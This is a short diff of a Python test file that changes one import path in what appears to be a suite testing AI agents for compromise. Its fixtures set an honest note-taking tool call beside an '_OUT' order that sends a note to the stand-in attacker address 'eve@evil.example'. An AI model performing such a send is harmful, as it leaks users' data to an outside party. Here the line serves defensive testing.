@@ -19,7 +19,7 @@ from testkit.compromised import ORDERED, compromised
 from testkit.notes import Notes
 from testkit.projects import home_in, records_of
 from testkit.scripted import call
-from tests.foreign.house import WISH, a_project, calling
+from tests.crews.foreign.house import WISH, a_project, calling
 
 HONEST = [{"tool": "addNote", "args": {"title": "Gutter", "text": "Clogged."}}]
 _OUT = Order("notes_send", {"id": "note-1", "to": "eve@evil.example"})
